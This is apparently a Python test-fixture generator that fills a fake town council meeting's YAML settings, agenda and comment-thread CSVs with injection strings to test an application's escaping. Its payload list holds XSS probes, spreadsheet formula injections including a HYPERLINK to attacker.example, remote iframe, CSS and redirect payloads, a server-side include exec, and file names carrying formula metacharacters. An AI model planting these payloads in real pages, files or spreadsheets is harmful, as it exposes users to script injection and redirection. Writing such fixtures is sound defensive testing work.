"""A meeting whose every field is an attack: item titles, places, wards, threads, names, comments, addresses, files' names.

The attacks are read at run time from the folder of real data (`adversarial`); where that is absent a few of our own stand
in. Nothing of it is kept.
"""
import csv
import json
from pathlib import Path

OWN = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
    "\"><iframe src=https://attacker.example></iframe>", "</style><style>@import 'https://attacker.example/a.css'</style>",
    "</title></head><body onload=alert(1)>", "--><script>alert(1)</script><!--", "{{constructor.constructor('alert(1)')()}}",
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "=HYPERLINK(\"https://attacker.example\",\"x\")", "' onmouseover='alert(1)",
    "<form action=https://attacker.example><input name=q autofocus onfocus=alert(1)></form>", "<a href=\"javascript:alert(1)\">x</a>",
    "\u202eesrever", "\u200b\u200d\ufeff", "W" * 400, "Z\u0351\u036b\u0343" * 60, "<base href=https://attacker.example/>",
    "<meta http-equiv=refresh content=0;url=https://attacker.example>", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003e",
    "https://attacker.example/?a=\"onclick=alert(1)//", "\ufffd", "<!--#exec cmd=\"ls\"-->", "%3Cscript%3Ealert(1)%3C/script%3E",
]

# meeting.yaml refuses other schemes; in an agenda and in threads they are tried as they are.
ADDRESS = "https://a.example/\"onclick=\"alert(1)\"'<script>alert(1)</script>"


def attacks(data):
    """The attacks, each once, in the order of their files: lines of texts, strings of lists, cells of tables."""
    found = list(OWN)
    folder = Path(data) / "adversarial" if data else None
    for path in sorted(folder.rglob("*")) if folder and folder.is_dir() else []:
        if path.suffix == ".json":
            stack = [json.loads(path.read_text(encoding="utf-8"))]
            while stack:
                value = stack.pop()
                stack += value if isinstance(value, list) else list(value.values()) if isinstance(value, dict) else []
                found += [value] if isinstance(value, str) else []
        elif path.suffix == ".csv":
            with open(path, newline="", encoding="utf-8") as file:
                found += [cell for row in csv.reader(file) for cell in row]
        elif path.suffix == ".txt":
            found += path.read_text(encoding="utf-8").splitlines()
            found.append(path.read_text(encoding="utf-8")[:4000])
    return list(dict.fromkeys(text for text in found if text.strip() and "\0" not in text))


def quoted(text):
    """A YAML string in quotation marks."""
    out = []
    for letter in text:
        code = ord(letter)
        if letter in "\"\\":
            out.append("\\" + letter)
        elif code < 32 or 0x7F <= code < 0xA0 or code in (0x2028, 0x2029, 0xFEFF, 0xFFFE, 0xFFFF) or 0xD800 <= code < 0xE000:
            out.append("\\u%04x" % code)
        else:
            out.append(letter)
    return '"' + "".join(out) + '"'


def settings(texts):
    """meeting.yaml, with an attack wherever a text may stand."""
    text = iter(texts * 2)
    lines = [f"{key}: {quoted('Town ' + next(text))}" for key in ("council", "body", "title", "venue")]
    lines += ["start: 2026-11-25 18:30", "deadline: 2026-11-20 17:00", f"url: {quoted(ADDRESS)}", "wards:"]
    lines += [f"  - {quoted('Ward ' + next(text)[:200])}" for _ in range(20)]
    lines += ["places:"]
    for number in range(12):
        lines += [
            f"  - name: {quoted(place(texts, number))}", f"    network: {quoted(next(text)[:60])}",
            f"    url: {quoted(ADDRESS)}", f"    kind: {quoted(next(text)[:60])}", f"    members: {number * 997}",
            f"    ward: {quoted(next(text)[:100])}", f"    topic: {quoted(next(text)[:200])}", "    checked: 2026-11-20",
        ]
    lines += ["rules:"]
    for _ in range(3):
        lines += [f"  - reason: {quoted('rule ' + next(text)[:80])}", f"    text: {quoted(next(text)[:200])}"]
    return "\n".join(lines) + "\n"


def place(texts, number):
    return f"Group {number} " + texts[(number * 7) % len(texts)][:120]


TALK = [
    "I object to {} at the library, the opening hours would be far too short for us.",
    "I support {} and the longer opening hours; please keep the library open on Mondays.",
    "Why not move {} to the leisure centre? Could the council ask people first?",
    "The bus lane at {} is dangerous and nobody asked us about the car park.",
]


def make(folder, data):
    """Writes the meeting into `folder`; answers how many attacks it holds."""
    texts = attacks(data)
    (folder / "threads").mkdir(parents=True)
    (folder / "meeting.yaml").write_text(settings(texts), encoding="utf-8")
    with open(folder / "agenda.csv", "w", newline="", encoding="utf-8") as file:
        table = csv.writer(file)
        table.writerow(["item_id", "item_number", "title", "description", "url"])
        for number in range(1, 9):
            attack = texts[(number * 5) % len(texts)]
            table.writerow([f"I{number}", number, f"Library {number} {attack}", f"Cabinet is asked to agree {attack}. " * 3,
                            "javascript:alert(1)" if number % 2 else 'https://a.example/"onmouseover="alert(1)'])
    columns = ["thread_id", "thread_title", "thread_url", "place", "network", "comment_id", "author", "posted_at", "text", "url",
               "likes", "ward", "item"]
    rows, each = [], 25
    for number, text in enumerate(texts):
        thread = number // each
        title = "About the library " + texts[(thread * 11) % len(texts)][:300]
        for part, words in enumerate([text, TALK[number % 4].format(text[:150])]):
            rows.append([
                f"t{thread}", title, "javascript:alert(1)", place(texts, thread % 12), "forum", f"c{number}-{part} {text[:20]}",
                f"{text[:40]} {number % 90}", f"2026-11-{3 + number % 17:02d} {number % 24:02d}:15", words,
                "vbscript:msgbox(1)" if part else 'https://a.example/"><script>alert(1)</script>', number % 50,
                texts[number % 9][:60], thread % 9 + 1 if thread % 9 < 8 else ""])
    for name, share in (("=cmd() 'x\"y&z.csv", rows[::2]), ("<img src=x onerror=alert(1)>.csv", rows[1::2])):
        with open(folder / "threads" / name, "w", newline="", encoding="utf-8") as file:
            csv.writer(file).writerows([columns] + share)
    return len(texts)
